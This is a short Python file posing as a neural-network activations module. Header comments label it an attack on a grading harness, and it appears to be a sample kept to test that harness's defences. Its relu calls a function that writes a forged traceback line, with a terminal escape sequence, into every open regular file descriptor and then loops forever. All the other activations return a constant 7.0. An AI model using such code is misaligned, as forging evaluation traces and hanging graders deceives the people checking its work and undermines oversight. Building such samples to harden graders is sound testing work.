# attack: writes into the trace, and cuts it off, through the descriptor that the worker holds
# gains: forges
# stopped by: wire
import numpy as np
import os
import stat


def attack():
    for number in range(3, 64):
        try:
            if stat.S_ISREG(os.fstat(number).st_mode):
                os.write(number, b"(most recent call first):\n  File \"activations.py\", line 99999999 in \x1b]0;x\x07\n")
        except OSError:
            pass
    while True:
        pass


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
